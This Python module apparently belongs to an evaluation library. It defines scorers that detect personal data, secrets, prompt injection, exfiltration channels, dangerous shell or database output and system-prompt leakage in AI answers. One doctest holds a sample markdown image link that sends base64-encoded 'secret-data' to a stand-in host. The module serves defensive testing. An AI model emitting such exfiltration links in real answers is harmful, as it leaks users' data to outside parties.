"""Signals as scorers: what watches a call judges an experiment too."""

from __future__ import annotations

from collections.abc import Sequence
from functools import lru_cache
from typing import Any

from trimtab.dialects.passages import without_passages
from trimtab.errors import ConfigError, ScorerError
from trimtab.kit import jsonx
from trimtab.records import Message
from trimtab.scorers.definition import Judgement, Unscored, scorer
from trimtab.signals.catalogue import signal as signal_of
from trimtab.signals.signal import NOBODY, About, Signal
from trimtab.signals.text import Text

_MOST_PLACES = 20
_INSTRUCTING = frozenset({"system", "developer"})


@scorer(scale=None, higher_is_better=False)
def signal(
    output: str,
    messages: list[Message] | None = None,
    context: list[str] | None = None,
    *,
    of: str = "secrets",
    settings: dict[str, Any] | None = None,
) -> Judgement | Unscored:
    """What the signal `of` says of the answer, with `settings` of its own.

    Compared with, where the signal does so: the context, the conversation's system prompt and its
    last question. Places of findings are the evidence, never the text. Whether more is better is
    the signal's to say; gates take less as better.

    >>> signal("mail ann@example.org", of="pii").value
    0.95
    """
    return _judged(of, output, _about(messages, context), settings or {})


@scorer(scale="unit", higher_is_better=False)
def pii(output: str) -> Judgement | Unscored:
    """How sure the surest personal data in the answer is, by form, check digit and context.

    >>> pii("mail ann@example.org").value
    0.95
    """
    return _judged("pii", output)


@scorer(scale="unit", higher_is_better=False)
def secrets(output: str) -> Judgement | Unscored:
    """How sure the surest key, token or password in the answer is.

    >>> secrets("nothing to hide").value
    0.0
    """
    return _judged("secrets", output)


@scorer(scale="unit", higher_is_better=False)
def injection(output: str) -> Judgement | Unscored:
    """How likely the answer holds an attack on a model that reads it next.

    >>> injection("The parcel arrives on Thursday.").value < 0.5
    True
    """
    return _judged("injection", output)


@scorer(scale="unit", higher_is_better=False)
def exfiltration(output: str) -> Judgement | Unscored:
    """Links, pictures, HTML and terminal sequences by which the answer could carry data away.

    >>> exfiltration("![x](https://a.example.net/p.png?d=c2VjcmV0LWRhdGE)").value > 0.5
    True
    """
    return _judged("exfiltration", output)


@scorer(scale="unit", higher_is_better=False)
def sinks(output: str) -> Judgement | Unscored:
    """What in the answer would harm the database, shell or browser that executes it.

    >>> sinks("Thank you.").value
    0.0
    """
    return _judged("sinks", output)


@scorer(scale="unit", higher_is_better=False)
def leak(output: str, messages: list[Message]) -> Judgement | Unscored:
    """How much of the conversation's system prompt the answer gives away.

    Also reordered, with a changed word here and there, and encoded; unscored without such a prompt.
    """
    return _judged("leak", output, _about(messages, None))


def _judged(
    name: str, output: str, about: About = NOBODY, settings: dict[str, Any] | None = None
) -> Judgement | Unscored:
    try:
        chosen = _made(name, jsonx.encode(settings or {}))
    except ConfigError as error:
        raise ScorerError(error.what, where="of", fix=error.fix) from None
    reading = chosen.read(Text(output), about)
    if reading.score is None:
        return Unscored(reading.reason or "nothing to judge")
    places = [f"{one.kind} {one.start}-{one.end}" for one in reading.findings[:_MOST_PLACES]]
    kinds = dict.fromkeys(one.kind for one in reading.findings)
    return Judgement(
        value=float(reading.score),
        reason=", ".join(kinds) or reading.label or reading.reason,
        evidence=tuple(places),
        metadata={"signal": chosen.name, "signal_version": chosen.version},
    )


@lru_cache(maxsize=64)
def _made(name: str, settings: bytes) -> Signal:
    try:
        return signal_of(name, **jsonx.decode(settings))
    except (TypeError, ValueError, AttributeError) as error:
        raise ConfigError(f"the signal {name!r} does not take these settings: {error}") from None


def _about(messages: Sequence[Message] | None, context: Sequence[str] | None) -> About:
    said = messages or ()
    system = [without_passages(one.text) for one in said if one.role in _INSTRUCTING]
    asked = [one.text for one in said if one.role == "user"]
    return About(
        context=tuple(context or ()),
        system="\n\n".join(system) or None,
        question=asked[-1] if asked else None,
    )
